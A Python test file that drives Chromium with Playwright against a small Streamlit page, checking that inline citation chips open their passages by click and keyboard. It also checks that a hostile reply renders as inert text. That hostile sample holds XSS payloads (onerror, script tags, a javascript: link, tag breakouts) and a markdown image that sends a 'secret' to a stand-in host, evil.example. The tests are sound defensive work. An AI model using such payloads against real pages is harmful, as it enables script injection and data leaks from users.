"""Inline citations in a real browser: a tiny Streamlit page renders `linked_reply` in Chromium, a click and
the keyboard open the cited passage with its sentence marked, and a hostile reply leaves no element behind.

Run alone with `pytest tests/test_citation_browser.py -q` (or `-m browser`); needs /usr/bin/chromium (or
FORGE_CHROMIUM) and the playwright package, like tests/test_browser.py.
"""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path

import pytest

from forge_bench.bench.browser import (
    STARTUP_TIMEOUT,
    WAIT_MS,
    chromium,
    free_port,
    healthy,
    missing_browser,
    offline_env,
    stop,
    tail,
)

pytestmark = [pytest.mark.browser, pytest.mark.skipif(missing_browser() is not None, reason=str(missing_browser()))]

REPO = Path(__file__).resolve().parents[1]
ARTIFACTS = REPO / "test-artifacts" / "citations"

PLAN = """## Scope

The pilot covers 20 stores in the Midwest region for eight weeks. Stores were chosen to match the chain's mix of \
urban and rural sites. Each store keeps its current markdown schedule for the first two weeks as a baseline."""

REPLY = ("From your files, the pilot runs in twenty stores across the Midwest [plan.md › Scope]. Each store keeps "
         "its markdown schedule for two weeks first [plan.md › Scope]. An older note disagreed [old.md › Notes].")

HOSTILE = """Found <img src=x onerror="window.pwned=1"> and <script>window.pwned=2</script> here.
</details></span></label></p><div onclick="window.pwned=3">click</div> [click me](javascript:window.pwned=4)
![pixel](https://evil.example/leak?secret=1) `</code><img src=x onerror="window.pwned=5">`
```
</pre><img src=x onerror="window.pwned=6">
```"""

PAGE = f'''
import streamlit as st
from pmforge.core.models import SourceRef
from pmforge.surfaces.ui.citations import CITATION_CSS, linked_reply

# Each script run adds one: a citation that opened through a rerun would show it.
st.session_state.runs = st.session_state.get("runs", 0) + 1
st.caption(f"script runs: {{st.session_state.runs}}")
st.html(f"<style>{{CITATION_CSS}}</style>")
st.caption("after the style")
st.caption("one more line")
sources = [SourceRef(citation="[plan.md › Scope]", file_id="f1", filename="plan.md", start=0, end=1),
           SourceRef(citation="[old.md › Notes]", file_id="f2", filename="old.md", start=0, end=1)]
passages = {{"f1": {PLAN!r}}}
with st.chat_message("assistant"):
    st.markdown(linked_reply({REPLY!r}, sources, lambda s: passages.get(s.file_id)), unsafe_allow_html=True)
with st.chat_message("assistant"):
    st.markdown(linked_reply({HOSTILE!r}, sources, lambda s: passages.get(s.file_id)), unsafe_allow_html=True)
'''


@pytest.fixture
def page_url(tmp_path):
    """The page above served by `streamlit run` on a free loopback port, offline; yields its URL."""
    script = tmp_path / "citations_page.py"
    script.write_text(PAGE, encoding="utf-8")
    port = free_port()
    log_path = tmp_path / "streamlit.log"
    with open(log_path, "wb") as log:
        proc = subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", str(script), "--server.headless", "true",
             "--server.port", str(port), "--server.address", "127.0.0.1", "--browser.gatherUsageStats", "false"],
            cwd=tmp_path, env=offline_env(tmp_path / "projects"), stdin=subprocess.DEVNULL, stdout=log,
            stderr=subprocess.STDOUT, start_new_session=True,
        )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + STARTUP_TIMEOUT
        while not healthy(url):
            if proc.poll() is not None:
                pytest.fail(f"streamlit exited with {proc.returncode}:\n{tail(log_path)}")
            if time.monotonic() > deadline:
                pytest.fail(f"streamlit not healthy after {STARTUP_TIMEOUT}s:\n{tail(log_path)}")
            time.sleep(0.25)
        yield url
    finally:
        stop(proc)


@pytest.fixture
def page(page_url):
    from playwright.sync_api import expect

    with chromium() as browser:
        page = browser.new_context(viewport={"width": 1100, "height": 900}).new_page()
        page.set_default_timeout(30_000)
        page.goto(page_url, wait_until="domcontentloaded")
        expect(page.get_by_test_id("stChatMessage")).to_have_count(2, timeout=WAIT_MS)
        yield page


def test_a_citation_opens_its_passage_by_click_and_by_keyboard(page):
    from playwright.sync_api import expect

    reply = page.get_by_test_id("stChatMessage").first
    chips = reply.locator(".forge-cite-label")  # the visible chip a person clicks
    expect(chips).to_have_count(3)
    expect(chips.first).to_have_text("plan.md › Scope")
    scope = reply.locator("mark", has_text="The pilot covers 20 stores in the Midwest region for eight weeks.")
    baseline = reply.locator("mark", has_text="Each store keeps its current markdown schedule")
    expect(scope).to_be_hidden()

    chips.first.click()
    expect(scope).to_be_visible()
    expect(reply.get_by_text("Stores were chosen to match the chain's mix").first).to_be_visible()  # context
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "citation-open.png"), animations="disabled", caret="hide")
    chips.first.click()
    expect(scope).to_be_hidden()

    # Keyboard: Tab from the first citation reaches the second; Space opens it.
    reply.locator(".forge-cite-toggle").first.focus()
    page.keyboard.press("Tab")
    expect(reply.locator(".forge-cite-toggle").nth(1)).to_be_focused()
    page.keyboard.press("Space")
    expect(baseline).to_be_visible()
    expect(scope).to_be_hidden()

    chips.nth(2).click()
    expect(reply.get_by_text("This passage is no longer available")).to_be_visible()

    # All of it happened in the browser: the script ran once.
    expect(page.get_by_text("script runs: 1")).to_be_visible()
    # The style-only st.html takes no room: the captions around it are as far apart as two captions are.
    tops = [page.get_by_text(text).bounding_box()["y"] for text in ("script runs: 1", "after the style", "one more line")]
    assert tops[1] - tops[0] == pytest.approx(tops[2] - tops[1], abs=1)


def test_a_hostile_reply_leaves_no_element_behind(page):
    from playwright.sync_api import expect

    hostile = page.get_by_test_id("stChatMessage").nth(1)
    expect(hostile).to_contain_text('<img src=x onerror="window.pwned=1">')
    expect(hostile).to_contain_text("<script>window.pwned=2</script>")
    main = page.get_by_test_id("stMain")
    for tag in ("img", "script", "iframe", "details", "div[onclick]"):
        expect(main.locator(tag)).to_have_count(0)
    expect(main.locator("a[href^='javascript' i]")).to_have_count(0)
    hostile.get_by_text("click me").click()
    assert page.evaluate("window.pwned") is None
